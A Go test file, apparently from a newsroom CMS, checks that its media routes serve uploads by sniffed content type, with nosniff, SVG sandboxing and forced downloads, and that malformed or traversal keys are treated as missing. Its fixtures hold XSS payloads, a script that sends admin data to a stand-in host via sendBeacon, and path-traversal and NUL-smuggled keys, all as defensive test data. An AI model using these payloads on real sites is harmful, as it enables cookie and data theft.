package media_test

import (
	"bytes"
	"image"
	"image/jpeg"
	"image/png"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/broadsheet/broadsheet/internal/content"
	"github.com/broadsheet/broadsheet/internal/media"
)

// hostile are files an import or a desk folder may hold under names that
// would make a browser run them, if it were served by its name.
var hostile = map[string][]byte{
	"evil.html": []byte("<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"),
	"evil.js":   []byte("fetch('/admin/users').then(r => r.text()).then(t => navigator.sendBeacon('https://x.example/', t))\n"),
	"evil.svg": []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">` +
		`<script>alert(document.domain)</script><circle r="4"/></svg>`),
	"bare.svg":    []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`),
	"note.txt":    []byte("just words"),
	"evil.png":    []byte("<html><script>alert(1)</script></html>"), // a page under an image's name
	"payload.bin": {0x00, 0x01, 0x02, 0x03},
}

// safeFiles are real files of the kinds shown inline, with their types.
func safeFiles(t *testing.T) map[string]struct {
	data []byte
	typ  string
} {
	t.Helper()
	img := image.NewRGBA(image.Rect(0, 0, 8, 8))
	var p, j bytes.Buffer
	if err := png.Encode(&p, img); err != nil {
		t.Fatal(err)
	}
	if err := jpeg.Encode(&j, img, nil); err != nil {
		t.Fatal(err)
	}
	return map[string]struct {
		data []byte
		typ  string
	}{
		"photo.png":  {p.Bytes(), "image/png"},
		"photo.jpeg": {j.Bytes(), "image/jpeg"},
		"photo.bin":  {j.Bytes(), "image/jpeg"}, // the content decides, not the name
		"report.pdf": {[]byte("%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"), "application/pdf"},
		"anim.gif":   {[]byte("GIF89a\x01\x00\x01\x00\x00\x00\x00;"), "image/gif"},
		"talk.mp3":   {append([]byte("ID3\x03\x00\x00\x00\x00\x00\x00"), make([]byte, 64)...), "audio/mpeg"},
		"bare.mp3":   {append([]byte{0xFF, 0xFB, 0x90, 0x64}, make([]byte, 64)...), "audio/mpeg"},
		"clip.webm":  {append([]byte("\x1A\x45\xDF\xA3"), make([]byte, 64)...), "video/webm"},
		"pic.avif":   {append([]byte("\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf"), make([]byte, 64)...), "image/avif"},
	}
}

// serveFrom serves storage s as the media routes do.
func serveFrom(s media.Storage) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		key := strings.TrimPrefix(r.URL.Path, "/media/")
		rc, err := s.Open(r.Context(), key)
		if content.IsNotFound(err) {
			http.NotFound(w, r)
			return
		} else if err != nil {
			http.Error(w, err.Error(), 500)
			return
		}
		defer rc.Close()
		media.Serve(w, r, key, rc)
	})
}

// TestServeTypesByContent: whatever a file is named, only images, PDFs,
// audio and video are shown inline, with their sniffed type and nosniff;
// SVG only under a sandboxing policy; anything else is a download. Over a
// folder and over an S3 bucket (proxied, as Broadsheet serves it).
func TestServeTypesByContent(t *testing.T) {
	for name, s := range storages(t) {
		t.Run(name, func(t *testing.T) {
			srv := httptest.NewServer(serveFrom(s))
			defer srv.Close()
			get := func(key string) (*http.Response, []byte) {
				t.Helper()
				resp, err := http.Get(srv.URL + "/media/" + key)
				if err != nil {
					t.Fatal(err)
				}
				defer resp.Body.Close()
				b, _ := io.ReadAll(resp.Body)
				return resp, b
			}
			for file, data := range hostile {
				key := "2024/05/" + file
				if err := s.Put(ctx, key, data); err != nil {
					t.Fatal(err)
				}
				resp, body := get(key)
				h := resp.Header
				if resp.StatusCode != 200 || !bytes.Equal(body, data) || h.Get("X-Content-Type-Options") != "nosniff" {
					t.Errorf("%s: %d, nosniff %q, %d bytes", file, resp.StatusCode, h.Get("X-Content-Type-Options"), len(body))
				}
				if strings.HasSuffix(file, ".svg") {
					csp := h.Get("Content-Security-Policy")
					if h.Get("Content-Type") != "image/svg+xml" || !strings.HasPrefix(csp, "sandbox;") || strings.Contains(csp, "allow-scripts") ||
						!strings.Contains(csp, "default-src 'none'") {
						t.Errorf("%s: type %q, policy %q; want image/svg+xml sandboxed without script", file, h.Get("Content-Type"), csp)
					}
					continue
				}
				if got := h.Get("Content-Type"); got != "application/octet-stream" {
					t.Errorf("%s: served as %q, want application/octet-stream", file, got)
				}
				if got := h.Get("Content-Disposition"); got != `attachment; filename=`+file {
					t.Errorf("%s: Content-Disposition %q, want an attachment named %s", file, got, file)
				}
			}
			for file, f := range safeFiles(t) {
				key := "2024/05/" + file
				if err := s.Put(ctx, key, f.data); err != nil {
					t.Fatal(err)
				}
				resp, body := get(key)
				h := resp.Header
				if resp.StatusCode != 200 || h.Get("Content-Type") != f.typ || h.Get("Content-Disposition") != "" ||
					h.Get("X-Content-Type-Options") != "nosniff" || !bytes.Equal(body, f.data) {
					t.Errorf("%s: %d %q %q, want 200 %s inline", file, resp.StatusCode, h.Get("Content-Type"), h.Get("Content-Disposition"), f.typ)
				}
			}
			// Ranges, so that a video can be scrubbed.
			req, _ := http.NewRequest("GET", srv.URL+"/media/2024/05/photo.png", nil)
			req.Header.Set("Range", "bytes=0-3")
			resp, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			b, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			if resp.StatusCode != 206 || string(b) != "\x89PNG" {
				t.Errorf("a range: %d %q, want 206 and the first 4 bytes", resp.StatusCode, b)
			}
		})
	}
}

// TestS3ObjectsAreTypedByContent: objects in a bucket carry the type the
// routes would serve them with, and a download's disposition (an SVG too,
// since a bucket cannot send the sandboxing policy), in case the bucket is
// ever served directly.
func TestS3ObjectsAreTypedByContent(t *testing.T) {
	s, _ := startS3(t)
	if s == nil {
		t.Skip("no S3-compatible server here")
	}
	cases := map[string]struct{ typ, disposition string }{
		"evil.html":  {"application/octet-stream", "attachment; filename=evil.html"},
		"evil.svg":   {"image/svg+xml", "attachment; filename=evil.svg"},
		"photo.jpeg": {"image/jpeg", ""},
	}
	files := map[string][]byte{"evil.html": hostile["evil.html"], "evil.svg": hostile["evil.svg"], "photo.jpeg": safeFiles(t)["photo.jpeg"].data}
	for file, want := range cases {
		if err := s.Put(ctx, "2024/05/"+file, files[file]); err != nil {
			t.Fatal(err)
		}
		typ, disp, err := media.ObjectHeaders(ctx, s.(*media.S3Storage), "2024/05/"+file)
		if err != nil {
			t.Fatal(err)
		}
		if typ != want.typ || disp != want.disposition {
			t.Errorf("%s: stored as %q, %q; want %q, %q", file, typ, disp, want.typ, want.disposition)
		}
	}
}

// TestBadMediaKeysAreNotFound: a key no file can have (a NUL byte, invalid
// UTF-8, a backslash, a way up, a folder) is a missing file, never an
// error of the server.
func TestBadMediaKeysAreNotFound(t *testing.T) {
	for name, s := range storages(t) {
		t.Run(name, func(t *testing.T) {
			if err := s.Put(ctx, "2024/05/a.png", []byte("x")); err != nil {
				t.Fatal(err)
			}
			for _, key := range []string{"\x00", "2024/05/a.png\x00.html", "\xff", "2024\\05\\a.png", "../a.png", "2024/05", "2024", ".", ""} {
				if _, err := s.Open(ctx, key); !content.IsNotFound(err) {
					t.Errorf("Open(%q): %v, want not found", key, err)
				}
			}
		})
	}
}
